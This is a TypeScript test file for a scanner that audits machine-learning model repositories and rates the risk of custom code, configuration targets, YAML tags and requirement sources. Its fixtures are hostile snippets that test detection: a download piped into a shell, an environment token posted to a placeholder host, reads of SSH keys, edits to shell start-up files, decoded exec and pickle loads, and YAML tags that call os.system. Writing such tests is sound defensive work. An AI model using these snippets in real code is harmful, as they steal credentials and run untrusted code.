import { describe, expect, it } from 'vitest';
import type { Severity } from '../core/finding.ts';
import { audit } from './audit.fixture.ts';

const text = (content: string): Uint8Array => new TextEncoder().encode(content);
const json = (value: unknown): Uint8Array => text(JSON.stringify(value));
type Files = Readonly<Record<string, string>>;

/** `severity rule path` of every finding, worst first. */
async function findings(files: Files): Promise<string[]> {
  const result = await audit(Object.fromEntries(Object.entries(files).map(([path, content]) => [path, text(content)])));
  return result.findings.map(({ severity, rule, location }) => `${severity} ${rule} ${location.path}`);
}

const CONFIG = JSON.stringify({ auto_map: { AutoModel: 'modeling_x.X' } });
/** What a rule says of one source: named by a configuration, named like model code, and a script among others. */
async function severities(rule: string, code: string): Promise<(Severity | undefined)[]> {
  const of = async (files: Files): Promise<Severity | undefined> => {
    const found = (await findings(files)).find((one) => one.split(' ')[1] === rule);
    return found?.split(' ')[0] as Severity | undefined;
  };
  return [
    await of({ 'config.json': CONFIG, 'modeling_x.py': code }),
    await of({ 'modeling_x.py': code, 'README.md': '# x' }),
    await of({ 'train.py': code, 'README.md': '# x' }),
  ];
}

describe('the same code weighs by who runs it and when', () => {
  it.each<[string, string, string, (Severity | undefined)[]]>([
    [
      'a program at import',
      'code-runs-command',
      'import os\nos.system("echo harmless")',
      ['critical', 'high', 'medium'],
    ],
    [
      'a program in a constructor',
      'code-runs-command',
      'import os\nclass X:\n  def __init__(self):\n    os.system("x")',
      ['high', 'high', 'low'],
    ],
    ['a program in a function', 'code-runs-command', 'import os\ndef f():\n  os.system("x")', ['medium', 'low', 'low']],
    [
      'a program as a script',
      'code-runs-command',
      'import os\nif __name__ == "__main__":\n  os.system("x")',
      ['low', 'low', 'low'],
    ],
    [
      'an ordinary program',
      'code-runs-command',
      'import subprocess\nsubprocess.run(["pip", "install", "x"])',
      ['critical', 'high', 'low'],
    ],
    [
      'a download into a shell',
      'code-runs-command',
      'import os\ndef f():\n  os.system("curl https://example.invalid | sh")',
      ['high', 'high', 'high'],
    ],
    [
      'decoded code',
      'code-evaluates',
      'import base64\nexec(base64.b64decode("eA=="))',
      ['critical', 'critical', 'high'],
    ],
    [
      'downloaded code',
      'code-evaluates',
      'import requests\ndef f():\n  exec(requests.get("x").text)',
      ['critical', 'critical', 'critical'],
    ],
    ['code of a file', 'code-evaluates', 'exec(open("version.py").read())', ['high', 'medium', 'low']],
    ['text that stands there', 'code-evaluates', 'x = eval("1 + 1")', ['low', 'low', 'low']],
    ['a connection at import', 'code-opens-network', 'import socket\nsocket.socket()', ['high', 'high', 'low']],
    [
      'an image by the caller’s address',
      'code-opens-network',
      'import requests\nclass X:\n  def forward(self, u):\n    return requests.get(u)',
      ['low', 'low', 'info'],
    ],
    [
      'a secret sent away',
      'code-opens-network',
      'import os, requests\nrequests.post("https://example.invalid", data=os.environ["HF_TOKEN"])',
      ['critical', 'critical', 'high'],
    ],
    ['a library', 'code-loads-native', 'import ctypes\nctypes.CDLL("x.so")', ['high', 'medium', 'low']],
    [
      'a pickle of the file',
      'code-deserialises',
      'import pickle, base64\npickle.loads(base64.b64decode("gAQu"))',
      ['critical', 'critical', 'high'],
    ],
    [
      'weights',
      'code-deserialises',
      'import torch\nclass X:\n  def forward(self):\n    torch.load("x")',
      ['low', 'low', 'info'],
    ],
    [
      'a key',
      'code-reads-credentials',
      'import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))',
      ['critical', 'high', 'low'],
    ],
    [
      'a start-up file',
      'code-import-effect',
      'import os\nopen(os.path.expanduser("~/.bashrc"), "a")',
      ['critical', 'critical', 'high'],
    ],
    ['torch.load replaced', 'code-patches', 'import torch\ntorch.load = lambda x: x', ['high', 'high', 'low']],
    [
      'an attention replaced',
      'code-patches',
      'import transformers\ntransformers.models.llama.modeling_llama.A.forward = lambda x: x',
      ['low', 'info', undefined],
    ],
    ['hidden letters', 'code-obfuscated', '\u{1d41e}xec("x")', ['high', 'high', 'high']],
  ])('%s (%s)', async (_, rule, code, expected) => {
    expect(await severities(rule, code)).toEqual(expected);
  });
});

describe('a loader reaches', () => {
  const EVIL = 'import os\nos.system("echo harmless")\n';

  it.each<[string, Files, string]>([
    [
      'what the model imports',
      { 'config.json': CONFIG, 'modeling_x.py': 'from .a import b', 'a.py': 'from . import c', 'c.py': EVIL },
      'c.py',
    ],
    [
      'a package',
      { 'config.json': CONFIG, 'modeling_x.py': 'from .p.q import r', 'p/q/__init__.py': EVIL },
      'p/q/__init__.py',
    ],
    [
      'the folder above',
      { 'sub/config.json': JSON.stringify({ auto_map: { A: 'm.X' } }), 'sub/m.py': 'from ..z import q', 'z.py': EVIL },
      'z.py',
    ],
    [
      'a configuration in a folder',
      { 'sub/config.json': JSON.stringify({ auto_map: { A: 'm.X' } }), 'sub/m.py': EVIL },
      'sub/m.py',
    ],
    [
      'the map of a part',
      { 'config.json': JSON.stringify({ text_config: { auto_map: { A: 'm.X' } } }), 'm.py': EVIL },
      'm.py',
    ],
    ['a handler', { 'handler.py': EVIL }, 'handler.py'],
    [
      'a pipeline of diffusers',
      { 'model_index.json': JSON.stringify({ _class_name: ['pipe', 'X'] }), 'pipe.py': EVIL },
      'pipe.py',
    ],
    [
      'a component of diffusers',
      { 'model_index.json': JSON.stringify({ unet: ['u', 'X'] }), 'unet/u.py': EVIL },
      'unet/u.py',
    ],
    [
      'a module of sentence-transformers',
      { 'modules.json': JSON.stringify([{ type: 'st.X' }]), 'st.py': EVIL },
      'st.py',
    ],
    [
      'code of MLflow',
      {
        MLmodel:
          'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\nmodel_uuid: a\n',
        'code/p/m.py': EVIL,
      },
      'code/p/m.py',
    ],
    ['generate of the repository', { 'custom_generate/generate.py': EVIL }, 'custom_generate/generate.py'],
  ])('%s', async (_, files, path) => {
    expect(await findings(files)).toContain(`critical code-runs-command ${path}`);
  });

  it.each(['_c.so', '_c.cpython-311-x86_64-linux-gnu.so', '_c.abi3.so', '_c.pyc', '_c.cp311-win_amd64.pyd'])(
    'a compiled module: %s',
    async (binary) => {
      const found = await findings({ 'config.json': CONFIG, 'modeling_x.py': 'from . import _c', [binary]: 'x' });
      expect(found).toContain('high code-loads-native modeling_x.py');
    },
  );

  it('not what only lies beside it', async () => {
    const found = await findings({ 'config.json': CONFIG, 'modeling_x.py': 'import torch', 'other.py': EVIL });
    expect(found).toContain('medium code-runs-command other.py');
  });

  it('code inside code', async () => {
    const inner = Buffer.from('import os\nos.system("echo harmless")').toString('base64');
    const found = await audit({ 'handler.py': text(`import base64\nexec(base64.b64decode("${inner}"))`) });
    const nested = found.findings.find(({ rule }) => rule === 'code-runs-command');
    expect(nested?.location).toMatchObject({ path: 'handler.py', member: 'run at line 2.py', line: 2 });
    expect(nested?.severity).toBe('critical');
  });
});

describe('remote-code', () => {
  const of = async (value: unknown, more: Files = {}): Promise<string[]> =>
    (await findings({ 'config.json': JSON.stringify(value), 'README.md': '', ...more })).filter((one) =>
      one.includes('remote-code'),
    );

  it('tells another repository, a missing file and a file that is there apart', async () => {
    expect(await of({ auto_map: { AutoModel: 'a/b--modeling_x.X' } })).toEqual(['high remote-code config.json']);
    expect(await of({ auto_map: { AutoModel: 'modeling_x.X' } })).toEqual(['medium remote-code config.json']);
    expect(await of({ auto_map: { AutoModel: 'modeling_x.X' } }, { 'modeling_x.py': 'x = 1' })).toEqual([
      'info remote-code config.json',
    ]);
    expect(await of({ auto_map: { AutoTokenizer: ['a/b--t.X', null] } })).toEqual(['high remote-code config.json']);
  });

  it('says nothing of classes that the library has', async () => {
    expect(await of({ architectures: ['LlamaForCausalLM'], model_type: 'llama' })).toEqual([]);
    const index = {
      _class_name: 'StableDiffusionPipeline',
      unet: ['diffusers', 'UNet2DConditionModel'],
      vae: [null, null],
    };
    expect(await findings({ 'model_index.json': JSON.stringify(index) })).toEqual([]);
  });
});

describe('configurations that name callables', () => {
  it.each<[string, string, Severity | undefined]>([
    ['CVE-2025-23304: a target of NeMo', 'a:\n  _target_: os.system\n', 'critical'],
    ['a target behind another module', '_target_: numpy.os.system\n', 'critical'],
    ['a target of a library', '_target_: torch.nn.Linear\n', undefined],
    ['a target that computes', '_target_: os.path.join\n', undefined],
    ['a target of the repository', '_target_: src.models.Net\n', undefined],
    ['a target in an alias', 'a: &x\n  _target_: builtins.exec\nb: *x\n', 'critical'],
    ['a tag of HyperPyYAML', 'a: !apply:os.system [x]\n', 'critical'],
    ['a tag of HyperPyYAML for a class', 'a: !new:torch.nn.Linear {a: 1}\n', undefined],
    ['a reader of pickles', '_target_: pandas.read_pickle\n', 'critical'],
    ['a loader of weights', '_target_: torch.load\n', 'medium'],
  ])('%s', async (_, yaml, expected) => {
    const [found] = await findings({ 'config.yaml': yaml, 'README.md': '' });
    expect(found?.split(' ').slice(0, 2).join(' ')).toBe(
      expected === undefined ? undefined : `${expected} config-target`,
    );
  });

  it.each<[string, string, Severity | undefined]>([
    ['apply', 'a: !!python/object/apply:os.system [x]\n', 'critical'],
    ['apply in its long form', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n', 'critical'],
    [
      'apply through a handle',
      '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n',
      'critical',
    ],
    ['apply in a later document', 'a: 1\n---\n- !!python/object/new:subprocess.Popen [x]\n', 'critical'],
    ['apply of what nobody knows', 'a: !!python/object/apply:a.b [x]\n', 'high'],
    ['a namespace', 'a: !!python/object:argparse.Namespace {a: 1}\n', 'low'],
    ['a tuple', 'a: !!python/tuple [1]\n', undefined],
    ['tags of its own', 'a: !include x.yaml\nb: !ref <a>\nc: !!str 1\n', undefined],
  ])('tags of PyYAML: %s', async (_, yaml, expected) => {
    const [found] = await findings({ 'config.yaml': yaml, 'README.md': '' });
    expect(found?.split(' ').slice(0, 2).join(' ')).toBe(
      expected === undefined ? undefined : `${expected} yaml-object`,
    );
  });

  it('loaders of MLflow', async () => {
    const of = async (loader: string, more: Files = {}): Promise<string[]> =>
      (
        await findings({
          MLmodel: `flavors:\n  python_function:\n    loader_module: ${loader}\nmodel_uuid: a\n`,
          ...more,
        })
      ).filter((one) => one.includes('config-target'));
    expect(await of('mlflow.sklearn')).toEqual([]);
    expect(await of('mine')).toEqual(['medium config-target MLmodel']);
    expect(await of('mine', { 'mine.py': 'x = 1' })).toEqual(['high config-target MLmodel']);
    expect(await of('os')).toEqual(['critical config-target MLmodel']);
  });
});

describe('requirement-source', () => {
  it.each<[string, Severity | undefined]>([
    ['torch==2.4.0 --hash=sha256:00', undefined],
    ['# -i http://example.invalid', undefined],
    ['--extra-index-url https://download.pytorch.org/whl/cu121', 'info'],
    ['-i https://pypi.example.invalid/simple', 'medium'],
    ['-i http://pypi.example.invalid/simple', 'high'],
    ['-ihttp://pypi.example.invalid/simple', 'high'],
    ['--index-url=http://203.0.113.1/simple', 'high'],
    ['git+https://github.com/a/b', 'low'],
    [`git+https://github.com/a/b@${'0a'.repeat(20)}`, 'info'],
    ['git+https://git.example.invalid/a/b', 'medium'],
    ['git+http://github.com/a/b', 'high'],
    ['x @ https://github.com/a/b/releases/download/x.whl', 'info'],
    ['x @ https://example.invalid/x.whl', 'medium'],
    ['x@https://example.invalid/x.whl', 'medium'],
    ['x @ http://example.invalid/x.whl', 'high'],
    ['./x.whl', 'low'],
    ['-e .', undefined],
    ['-r https://example.invalid/r.txt', 'medium'],
  ])('%s', async (line, expected) => {
    const [found] = await findings({ 'requirements.txt': `numpy\n${line}\n` });
    expect(found?.split(' ')[0]).toBe(expected);
  });

  it('does not repeat a password', async () => {
    const { findings: found } = await audit({
      'requirements.txt': text('-i https://user:hunter2@pypi.example.invalid/simple\n'),
    });
    expect(JSON.stringify(found)).not.toContain('hunter2');
  });
});

it('reads a configuration with what JSON has not and Python has', async () => {
  const { files } = await audit({ 'config.json': text('{"a": [0.0, Infinity], "b": -Infinity, "c": NaN}') });
  expect(files[0]?.status).toBe('complete');
  expect((await audit({ 'config.json': json({ a: 1 }) })).findings).toEqual([]);
});
